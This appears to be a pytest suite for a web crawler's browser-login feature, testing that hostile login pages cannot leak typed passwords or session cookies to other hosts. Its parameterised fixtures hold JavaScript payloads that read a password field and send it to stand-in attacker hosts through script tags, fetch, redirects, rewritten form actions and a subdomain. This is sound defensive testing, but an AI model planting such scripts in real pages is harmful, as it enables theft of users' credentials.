"""C10, L7, X-N7: a login page that is hostile gets no secret out; scripts ask by POST only where the source says so."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest

from tests.acceptance.support_logins import LoginProject
from tests.crawl_forks import COMMANDS
from tests.hostile_login_site import APP, EVIL, FORM, NEAR, SECRET, STEPS, HostileLoginSite, Page
from tests.page_wall import need_browser
from tests.site.client import write_project

pytestmark = pytest.mark.extended

#: What a script does with the password when the button is pressed.
ON_CLICK = "go.onclick = event => { const p = encodeURIComponent(document.getElementById('pass').value); %s };"
LOAD = "const s = document.createElement('%s'); s.rel = 'stylesheet'; s.%s = %s; document.head.append(s);"


@pytest.fixture
def site() -> Iterator[HostileLoginSite]:
    need_browser()
    with HostileLoginSite() as running:
        yield running


def crawl(
    folder: Path,
    site: HostileLoginSite,
    *,
    include: Sequence[str] = (APP,),
    steps: Sequence[dict[str, Any]] = STEPS,
    **login: Any,
) -> int:
    """Crawls the site; what is printed is kept as well."""
    write_project(
        folder,
        site.port,
        start={"urls": [site.url()], "sitemaps": "off"},
        scope={"include_hosts": list(include), "trap_after": 0},
        fetch={"retries": 0, "timeout_seconds": 5},
        render={"max_seconds": 2.0},
        login={"type": "browser", "url": site.url("/login"), "steps": list(steps), **login},
    )
    return project_of(folder).run()


def project_of(folder: Path) -> LoginProject:
    return LoginProject(folder=folder, host=APP)


@pytest.mark.few(2)
@pytest.mark.parametrize(
    "script",
    [
        ON_CLICK % (LOAD % ("script", "src", f"'http://{EVIL}:PORT/x.js?p=' + p")),
        ON_CLICK % (LOAD % ("link", "href", f"'http://{NEAR}:PORT/' + p")),
        ON_CLICK % f"fetch('http://{NEAR}:PORT/x?p=' + p, {{mode: 'no-cors'}});",
        ON_CLICK % f"event.preventDefault(); location.href = 'http://{NEAR}:PORT/x?p=' + p;",
        f"document.forms[0].method = 'get'; document.forms[0].action = 'http://{NEAR}:PORT/x';",
        f"document.forms[0].action = 'http://{NEAR}:PORT/x';",
    ],
)
def test_c10_login_when_a_script_sends_what_was_typed_then_no_other_host_gets_it(
    tmp_path: Path, site: HostileLoginSite, script: str
) -> None:
    site.put_login(script.replace("PORT", str(site.port)))

    crawl(tmp_path, site, include=("acme.test",))

    assert not site.told(NEAR)
    assert not site.told(EVIL)
    assert SECRET not in project_of(tmp_path).written()


@pytest.mark.few(2)
@pytest.mark.parametrize("host", [NEAR, EVIL])
@pytest.mark.parametrize("way", ["redirect", "script"])
def test_n7_login_when_its_page_leads_to_another_host_then_nothing_is_typed_there(
    tmp_path: Path, site: HostileLoginSite, host: str, way: str
) -> None:
    target = site.url("/login", host)
    site.put("/login", Page(FORM % "<script>typed = 1</script>"), host)
    page = (
        Page("", 302, [("Location", target)]) if way == "redirect" else Page(f"<script>location = '{target}'</script>")
    )
    site.put("/login", page)

    # Both are inside the boundary, and are no origin of the login.
    exit_code = crawl(tmp_path, site, include=("acme.test", EVIL))

    assert exit_code == 8
    assert not site.told(host)
    assert not [one for one in site.seen(host) if one.path == "/login"]
    assert "is none of the login: render.allow_hosts may name its host" in project_of(tmp_path).rows()["/"][1]


def test_l13_login_when_a_cookie_is_for_a_whole_domain_then_it_goes_where_a_browser_sends_it(
    tmp_path: Path, site: HostileLoginSite
) -> None:
    load = "".join(f"<script src=http://{host}:{site.port}/x.js></script>" for host in (NEAR, EVIL))
    site.put("/login", Page(FORM % load, headers=[("Set-Cookie", "all=of-acme; Domain=acme.test; Path=/")]))
    for host in (NEAR, EVIL):
        site.put(
            "/x.js", Page("", headers=[("Set-Cookie", "other=of-theirs; Path=/"), ("Cache-Control", "no-store")]), host
        )

    # Their addresses are public ones, as they are of the scope.
    exit_code = crawl(tmp_path, site, include=("acme.test", EVIL))

    assert exit_code == 0, project_of(tmp_path).written()[-3000:]
    sent = {host: {one.headers.get("cookie", "") for one in site.seen(host)} for host in (APP, NEAR, EVIL)}
    assert any("all=of-acme" in cookies for cookies in sent[NEAR])
    assert not any("session=" in cookies for cookies in sent[NEAR] | sent[EVIL])
    assert not any("of-acme" in cookies for cookies in sent[EVIL])
    assert not any("of-theirs" in cookies for cookies in sent[APP])


def test_c10_login_when_it_redirects_to_no_url_then_it_fails_at_once(tmp_path: Path, site: HostileLoginSite) -> None:
    site.put("/login", Page("", 302, [("Location", "http://[bad/")]))

    exit_code = crawl(tmp_path, site)

    assert exit_code == 8
    code, error = project_of(tmp_path).rows()["/"]
    assert (code, "the login redirects to what is no URL" in error) == (959, True), error
    assert "Traceback" not in project_of(tmp_path).written()


def test_c10_login_when_the_name_of_its_field_is_no_text_then_pages_are_read(
    tmp_path: Path, site: HostileLoginSite
) -> None:
    site.put_login("document.getElementById('pass').name = '\\ud800';")

    exit_code = crawl(tmp_path, site)

    assert exit_code == 0, project_of(tmp_path).written()[-3000:]
    assert "Traceback" not in project_of(tmp_path).written()


def test_c10_login_when_a_page_puts_the_secret_into_a_host_then_no_message_has_it(
    tmp_path: Path, site: HostileLoginSite
) -> None:
    site.put_login(ON_CLICK % "event.preventDefault(); location.href = `http://${p}.evil.test/`;")

    exit_code = crawl(tmp_path, site, steps=[*STEPS, {"wait": "#members"}])

    assert exit_code == 8
    code, error = project_of(tmp_path).rows()["/"]
    assert (code, error.count("the page answered 200"), "it led to *** refused" in error) == (959, 1, True), error
    assert SECRET.casefold() not in project_of(tmp_path).written().casefold()


def test_n7_trace_when_a_source_logs_in_then_it_has_neither_what_was_typed_nor_the_session(
    tmp_path: Path, site: HostileLoginSite
) -> None:
    crawl(tmp_path, site)
    trace = tmp_path / "trace.zip"

    ended = COMMANDS.run(tmp_path, "test", site.url("/one.html"), "--source", "demo", "--render", "--trace", str(trace))

    assert "words for members" in ended.stdout, ended.stdout + ended.stderr
    with ZipFile(trace) as files:
        written = b"".join(files.read(name) for name in files.namelist())
    assert b"one.html" in written
    assert site.session.partition("=")[2].encode() not in written
    assert SECRET.encode() not in written


_WORDS = " ".join(f"answered{number}" for number in range(60))
#: Its own data by POST, that of an API that the source names and of one that it does not; and a form that sends itself.
_PAGE = """<title>by post</title><div id=root></div><form id=f method=post action=/form target=n><input name=a></form><iframe name=n></iframe>
<script>
const ask = (url, kind) => fetch(url, {method: 'POST', headers: {'content-type': kind}, body: '{"query": "{ text }"}'})
  .then(r => r.json()).then(d => document.getElementById('root').append(d.text + ' '), () => 0);
ask('/graphql', 'application/json'); ask('NAMED/graphql', 'application/json'); ask('OTHER/graphql', 'text/plain');
document.getElementById('f').submit();
</script>"""


@pytest.mark.parametrize("posts", [True, False])
def test_c10_page_when_its_text_comes_by_post_then_it_is_read_where_the_source_says_so(
    tmp_path: Path, site: HostileLoginSite, posts: bool
) -> None:
    def answer(handler: BaseHTTPRequestHandler) -> Page:
        cors = [
            ("Access-Control-Allow-Origin", handler.headers.get("Origin") or "*"),
            ("Access-Control-Allow-Headers", "content-type"),
        ]
        host = (handler.headers["Host"] or "").partition(".")[0]
        return Page(f'{{"text": "{host} {_WORDS}"}}', headers=cors, kind="application/json")

    html = _PAGE.replace("NAMED", site.url("", NEAR)).replace("OTHER", site.url("", EVIL))
    for path, page in {"/": Page(html), "/robots.txt": Page("", 404), "/graphql": answer}.items():
        for host in (APP, NEAR, EVIL):
            site.put(path, page, host)
    write_project(
        tmp_path,
        site.port,
        start={"urls": [site.url()], "sitemaps": "off"},
        scope={"include_hosts": [APP, EVIL]},
        fetch={"retries": 0, "delay_seconds": 0},
        render={"mode": "auto", "max_seconds": 5.0, "post": posts, "allow_hosts": [NEAR]},
    )

    ended = COMMANDS.run(tmp_path, "crawl", "demo")

    posted = {(one.host.partition(":")[0], one.path, one.body) for one in site.requests if one.method == "POST"}
    query = '{"query": "{ text }"}'
    assert posted == ({(APP, "/graphql", query), (NEAR, "/graphql", query)} if posts else set()), ended.stderr
    found = COMMANDS.run(tmp_path, "search", "answered7").stdout
    assert ("by post" in found) is posts
